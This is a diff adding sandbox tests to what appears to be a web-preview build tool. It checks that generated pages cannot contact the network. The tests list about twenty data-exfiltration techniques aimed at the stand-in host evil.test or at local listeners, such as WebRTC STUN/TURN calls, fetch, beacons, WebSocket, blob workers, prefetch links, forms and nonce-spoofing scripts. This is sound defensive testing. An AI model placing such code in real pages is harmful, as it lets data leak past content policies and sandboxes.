@@ -1,3 +1,6 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { createServer, type AddressInfo } from 'node:net';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildPreview, type PreviewExtras } from '#codegen/4-check/build-preview';
@@ -265,6 +268,103 @@ const hostile = [
   '\\u003cscript>hacked=11',
 ];
 
+/** Servers of all kinds on this machine, which write down whoever comes. */
+async function listen() {
+  const seen: string[] = [];
+  const udp = createSocket('udp4').on('message', () => seen.push('udp'));
+  const tcp = createServer((socket) => {
+    seen.push('tcp');
+    socket.destroy();
+  });
+  await Promise.all([
+    once(udp.bind(0, '127.0.0.1'), 'listening'),
+    once(tcp.listen(0, '127.0.0.1'), 'listening'),
+  ]);
+  return {
+    udp: udp.address().port,
+    tcp: (tcp.address() as AddressInfo).port, // A server that listens on TCP has one.
+    seen: () => [...seen],
+    forget: () => void seen.splice(0),
+    async close() {
+      udp.close();
+      tcp.close();
+      await once(tcp, 'close');
+    },
+  };
+}
+
+interface Ports {
+  readonly udp: number;
+  readonly tcp: number;
+}
+
+const call = (servers: string) => `
+  const line = new RTCPeerConnection({ iceServers: [${servers}] });
+  line.createDataChannel('x');
+  line.createOffer().then((offer) => line.setLocalDescription(offer));`;
+const stun = ({ udp }: Ports) => call(`{ urls: 'stun:127.0.0.1:${udp}' }`);
+const element = (name: string, more: string) =>
+  `const made = document.createElement('${name}'); ${more}; document.body.append(made);`;
+/** A digest and a nonce as the page itself has them, for scripts that would pass for one of its own. */
+const pose =
+  "made.nonce = document.querySelector('script')?.nonce ?? ''; made.integrity = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";
+
+/** What a script could try that no word of a policy forbids, and whether an ordinary page gets through with it. */
+const waysOut: readonly (readonly [what: string, write: (ports: Ports) => string, isSeen: boolean])[] = [
+  ['a call between browsers', stun, true],
+  [
+    'a call over TCP',
+    ({ tcp }) => call(`{ urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'a', credential: 'b' }`),
+    true,
+  ],
+  [
+    'the older name of a call',
+    (ports) => stun(ports).replace('RTCPeerConnection', 'webkitRTCPeerConnection'),
+    true,
+  ],
+  [
+    'a call out of an empty frame',
+    (ports) => `${element('iframe', '')} const { RTCPeerConnection } = made.contentWindow; ${stun(ports)}`,
+    false,
+  ],
+  [
+    'a call out of a frame with a document',
+    (ports) =>
+      element(
+        'iframe',
+        `made.srcdoc = '<script nonce="' + (document.querySelector('script')?.nonce ?? '') + '">' + ${JSON.stringify(stun(ports))} + '<' + '/script>'`,
+      ),
+    true,
+  ],
+  ['an import', () => `import('http://evil.test/a.js').catch(() => {});`, true],
+  ['a script from elsewhere', () => element('script', `made.src = 'http://evil.test/a.js'; ${pose}`), true],
+  ['a fetch', () => `fetch('http://evil.test/').catch(() => {});`, true],
+  ['a beacon', () => `navigator.sendBeacon('http://evil.test/', 'x');`, true],
+  ['a picture', () => `new Image().src = 'http://evil.test/a.png';`, true],
+  ['a socket', () => `new WebSocket('ws://evil.test/');`, true],
+  ['a worker', () => `new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/')"])));`, false],
+  [
+    'a connection ahead',
+    () => element('link', `made.rel = 'preconnect'; made.href = 'https://evil.test/'`),
+    false,
+  ],
+  ['a fetch ahead', () => element('link', `made.rel = 'prefetch'; made.href = 'http://evil.test/'`), false],
+  ['a style sheet', () => element('link', `made.rel = 'stylesheet'; made.href = 'http://evil.test/'`), true],
+  [
+    'a form',
+    () => element('form', `made.action = 'http://evil.test/'; document.body.append(made); made.submit()`),
+    false,
+  ],
+  ['a window', () => `window.open('http://evil.test/');`, false],
+  ['an object', () => element('object', `made.data = 'http://evil.test/'`), false],
+  ['a frame', () => element('iframe', `made.src = 'http://evil.test/'`), true],
+  [
+    'markup',
+    () => `document.body.insertAdjacentHTML('beforeend', '<img src=http://evil.test/b.png>');`,
+    true,
+  ],
+];
+
 describe('a hostile design', () => {
   it('would be caught: an ordinary page runs and fetches', async () => {
     const html =
@@ -299,6 +399,39 @@ export function Home() {
       expect(await preview.evaluate("document.querySelectorAll('script').length")).toBe(4);
       expect(await preview.requests()).toEqual([]);
     });
+  });
+
+  it.each(waysOut)('asks nobody anything by way of %s', async (_what, write, isSeen) => {
+    const network = await listen();
+    try {
+      const attack = write(network);
+      const ordinary = `<script>${attack}\n;parent.postMessage({ type: 'ready' }, '*');</script>`;
+      if (isSeen) {
+        await using(await openPreview(browser, `<body>${ordinary}`), async (preview) => {
+          await preview.take('ready');
+          await expect.poll(async () => [...network.seen(), ...(await preview.requests())]).not.toEqual([]);
+        });
+        network.forget();
+      }
+      const text = `export function Home() {\n  useEffect(() => { ${attack} }, []);\n  return <p>Home</p>;\n}`;
+      const files = { 'src/pages/Home.tsx': `import { useEffect } from 'react';\n${text}` };
+      await using(await open(makeResult(files)), async (preview) => {
+        await preview.take('ready');
+        await preview.evaluate(
+          'new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))',
+        );
+        // The same by hand, when all that the page does at its start is over.
+        await preview.evaluate(`(async () => { ${attack} })().catch(() => {})`);
+        await preview.send({ type: 'describe' });
+        await preview.take('described');
+        expect(await preview.requests()).toEqual([]);
+        // A call that gets no answer is repeated within this time.
+        await preview.evaluate('new Promise((done) => setTimeout(done, 300))');
+        expect(network.seen()).toEqual([]);
+      });
+    } finally {
+      await network.close();
+    }
   });
 
   it.each([
